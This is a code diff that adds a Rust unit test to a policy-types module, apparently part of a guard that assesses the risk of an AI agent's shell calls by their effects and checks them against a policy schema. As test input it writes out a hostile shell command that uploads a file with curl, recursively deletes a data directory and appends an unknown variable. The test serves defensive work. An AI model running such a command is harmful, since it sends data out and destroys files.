@@ -96,3 +96,45 @@ impl PolicyTypes {
 fn uid(kind: &EntityTypeName, name: &str) -> EntityUid {
     EntityUid::from_type_name_and_id(kind.clone(), EntityId::new(name))
 }
+
+#[cfg(test)]
+mod tests {
+    use countersign_risk::assess::assess;
+    use countersign_risk::call::Call;
+    use countersign_risk::effect::{Effect, Effects};
+    use countersign_risk::verdict::Policy;
+
+    use super::*;
+    use crate::facts::CallTime;
+
+    #[test]
+    fn the_facts_of_a_call_fit_the_schema() {
+        let types = PolicyTypes::new().unwrap();
+        let every = [
+            Effect::Read,
+            Effect::Write,
+            Effect::Delete,
+            Effect::Exec,
+            Effect::NetOut,
+            Effect::NetIn,
+            Effect::Privilege,
+            Effect::Persist,
+            Effect::Publish,
+            Effect::Service,
+            Effect::Send,
+            Effect::Money,
+            Effect::Secret,
+            Effect::SelfChange,
+            Effect::Delegate,
+            Effect::Remote,
+            Effect::Crisis,
+        ];
+        for weekday in 0..7 {
+            let call = Call::shell("curl -d @a https://example.com; rm -rf /srv/data; $X");
+            let mut seen = assess(&call, &Policy::default());
+            seen.effects = Effects::of(&every);
+            let facts = PolicyFacts::new(&call, &seen, false, CallTime { hour: 3, weekday });
+            assert!(types.request(&facts, true).is_some(), "{facts:?}");
+        }
+    }
+}
